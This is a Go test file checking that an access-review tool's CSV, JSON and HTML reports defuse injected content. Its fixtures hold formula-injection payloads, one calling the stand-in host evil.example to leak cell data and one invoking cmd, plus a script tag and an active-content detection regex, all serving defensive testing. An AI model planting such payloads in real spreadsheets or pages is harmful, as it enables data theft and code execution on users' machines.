package review

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"html"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")

// signedQuarter runs the scripted quarter to a signed-off campaign with
// decisions whose notes try formula and markup injection.
func signedQuarter(t *testing.T) (*fixture, Campaign) {
	t.Helper()
	ctx := context.Background()
	f, c := startQuarter(t)
	f.clock.Set(snapAt.Add(26 * time.Hour))
	decisions := []struct{ item, decision, note string }{
		{"0001", Revoke, "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"},
		{"0002", Revoke, "<script>alert(1)</script> no admin work"},
		{"0003", Keep, "uses grafana and db-1 daily"},
		{"0004", Revoke, "+dormant since May"},
		{"0005", Keep, "-locked pending investigation, keep role"},
		{"0006", Revoke, "@SUM(1+1) never used"},
		{"0007", Keep, ""},
		{"0008", Keep, "on-call rotation"},
		{"0009", Revoke, "grant unused since it started"},
	}
	for _, d := range decisions {
		if _, err := f.m.Decide(ctx, "https://idp#reviewer", c.Name, d.item, d.decision, d.note); err != nil {
			t.Fatal(err)
		}
	}
	f.clock.Set(snapAt.Add(50 * time.Hour))
	c, err := f.m.SignOff(ctx, "https://idp#ciso", c.Name)
	if err != nil {
		t.Fatal(err)
	}
	return f, c
}

func TestReportGolden(t *testing.T) {
	f, c := signedQuarter(t)
	for _, format := range []string{FormatCSV, FormatJSON, FormatHTML} {
		t.Run(format, func(t *testing.T) {
			var buf bytes.Buffer
			if err := f.m.Report(context.Background(), root, c.Name, format, &buf); err != nil {
				t.Fatal(err)
			}
			golden := filepath.Join("testdata", "report."+format+".golden")
			if *update {
				if err := os.MkdirAll("testdata", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run with -update to create)", err)
			}
			if !bytes.Equal(buf.Bytes(), want) {
				t.Fatalf("report differs from %s (run with -update after checking):\n%s", golden, buf.String())
			}
		})
	}
	evs := findEvents(f.events, TypeReport)
	if len(evs) != 3 || evs[0].Actor != root || evs[0].Attrs["campaign"] != "2026-Q3" || evs[0].Attrs["items"] != "9" ||
		evs[0].Attrs["signed_off"] != "true" || evs[2].Attrs["format"] != "html" {
		t.Fatalf("review.report events %+v", evs)
	}
}

func TestCSVReport(t *testing.T) {
	_, c := signedQuarter(t)
	var buf bytes.Buffer
	if err := WriteReport(&buf, c, FormatCSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(c.Items) {
		t.Fatalf("%d rows", len(rows))
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, name := range []string{"campaign", "period_start", "period_end", "started_by", "signed_off_by", "signed_off_at",
		"user_id", "role", "source", "last_login", "last_use", "uses", "dormant", "unused", "locked", "mfa_enrolled",
		"decision", "decided_by", "decided_at", "note", "action"} {
		if _, ok := col[name]; !ok {
			t.Fatalf("no column %q", name)
		}
	}
	r := rows[1+idx("0003")]
	want := map[string]string{
		"campaign": "2026-Q3", "period_start": "2026-07-01T00:00:00Z", "period_end": "2026-10-01T00:00:00Z",
		"started_by": root, "signed_off_by": "https://idp#ciso", "signed_off_at": "2026-10-03T02:00:00Z",
		"user_id": alice, "role": "engineer", "source": "idp-group", "last_login": "2026-09-20T08:00:00Z",
		"last_use": "2026-09-15T10:00:00Z", "dormant": "no", "unused": "no", "locked": "no", "mfa_enrolled": "yes",
		"uses":     "app grafana: 3, last 2026-09-15T10:00:00Z; ssh db-1 as root: 2, last 2026-08-01T09:30:00Z",
		"decision": "keep", "decided_by": "https://idp#reviewer", "decided_at": "2026-10-02T02:00:00Z",
	}
	for k, v := range want {
		if got := r[col[k]]; got != v {
			t.Errorf("%s = %q, want %q", k, got, v)
		}
	}
	if got := rows[1+idx("0001")][col["last_login"]]; got != "never" {
		t.Errorf("never-logged-in user: last_login %q", got)
	}
	// Formula injection: every cell an attacker could start with a
	// formula character is defused.
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts with a formula character: %q", i, rows[0][j], cell)
			}
		}
	}
	if got := rows[1+idx("0001")][col["note"]]; !strings.HasPrefix(got, "'=HYPERLINK(") {
		t.Errorf("note %q", got)
	}
}

func TestCSVSafe(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
		{" =1", " =1"},
	}
	for _, tc := range tests {
		if got := csvSafe(tc.in); got != tc.want {
			t.Errorf("csvSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	// Values no decision checks (IdP group names, emails) are defused too.
	c := Campaign{Name: "q", Items: []Item{{ID: "0001", UserID: "u", Email: "@x", Role: "r", Source: SourceIdPGroup,
		Group: "\t=cmd|' /C calc'!A0", Action: `remove u from IdP group "=x"`}}}
	var buf bytes.Buffer
	if err := WriteReport(&buf, c, FormatCSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Fatalf("cell %q", cell)
		}
	}
}

var (
	rowRe = regexp.MustCompile(`<tr id="item-(\d+)"[^>]* data-user="([^"]*)" data-email="[^"]*" data-role="([^"]*)"`)
	// Anything that would make the page load or run something.
	activeRe = regexp.MustCompile(`(?i)<script|<link|<iframe|<img|<object|<embed|\ssrc=|\shref=|url\(|@import|\son[a-z]+=|javascript:`)
)

func TestHTMLReport(t *testing.T) {
	_, c := signedQuarter(t)
	var buf bytes.Buffer
	if err := WriteReport(&buf, c, FormatHTML); err != nil {
		t.Fatal(err)
	}
	page := buf.String()
	if m := activeRe.FindString(page); m != "" {
		t.Fatalf("page has active content %q", m)
	}
	if !strings.Contains(page, `content="default-src 'none'; style-src 'unsafe-inline'"`) {
		t.Fatal("no CSP")
	}
	if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Fatal("the note's markup is not escaped")
	}
	for id, want := range map[string]string{
		"campaign-name": "2026-Q3", "period-start": "2026-07-01T00:00:00Z", "period-end": "2026-10-01T00:00:00Z",
		"started-by": root, "signed-off-by": "https://idp#ciso", "signed-off-at": "2026-10-03T02:00:00Z",
		"item-count": "9", "keep-count": "4", "revoke-count": "5",
	} {
		re := regexp.MustCompile(`id="` + id + `">([^<]*)<`)
		m := re.FindStringSubmatch(page)
		if m == nil || html.UnescapeString(m[1]) != want {
			t.Errorf("#%s = %v, want %q", id, m, want)
		}
	}
	if !strings.Contains(page, `<table id="items">`) {
		t.Fatal("no items table")
	}
	rows := rowRe.FindAllStringSubmatch(page, -1)
	if len(rows) != len(c.Items) {
		t.Fatalf("%d rows, want %d", len(rows), len(c.Items))
	}
	for i, r := range rows {
		it := c.Items[i]
		if r[1] != it.ID || html.UnescapeString(r[2]) != it.UserID || r[3] != it.Role {
			t.Errorf("row %d = %v, want %s %s %s", i, r[1:], it.ID, it.UserID, it.Role)
		}
	}
	if !regexp.MustCompile(`data-item="0004"[^>]*data-dormant="true" data-unused="true" data-locked="false" data-mfa="true"`).MatchString(page) {
		t.Error("bob's flags are not readable from the row")
	}
}

func TestOpenCampaignReport(t *testing.T) {
	c := Campaign{ID: "q", Name: "q", CreatedAt: snapAt, Due: snapAt.Add(DefaultDue), PeriodStart: snapAt.Add(-DefaultPeriod),
		CreatedBy: root, Items: []Item{{ID: "0001", UserID: "u", Role: "r", Source: SourceLocal, GrantID: "g"}}}
	var js bytes.Buffer
	if err := WriteReport(&js, c, FormatJSON); err != nil {
		t.Fatal(err)
	}
	var r report
	if err := json.Unmarshal(js.Bytes(), &r); err != nil {
		t.Fatal(err)
	}
	if r.Campaign.SignedOffAt != "never" || r.Campaign.SignedOffBy != "" || r.Items[0].LastLogin != "never" ||
		r.Items[0].GrantExpires != "never" || r.Items[0].DecidedAt != "never" || r.Items[0].Uses == nil {
		t.Fatalf("%+v", r)
	}
	var page bytes.Buffer
	if err := WriteReport(&page, c, FormatHTML); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`id="signed-off-by">not signed off<`, `<td class="decision">undecided</td>`} {
		if !strings.Contains(page.String(), want) {
			t.Errorf("page lacks %s", want)
		}
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestReportWriteFailure(t *testing.T) {
	f, c := signedQuarter(t)
	if err := f.m.Report(context.Background(), root, c.Name, FormatHTML, failWriter{}); err == nil {
		t.Fatal("no error")
	}
	evs := findEvents(f.events, TypeReport)
	if len(evs) != 1 || evs[0].Reason != "write-failed" {
		t.Fatalf("%+v", evs)
	}
	if err := f.m.Report(context.Background(), root, "nope", FormatHTML, failWriter{}); !errors.Is(err, ErrNotFound) {
		t.Fatalf("%v", err)
	}
}
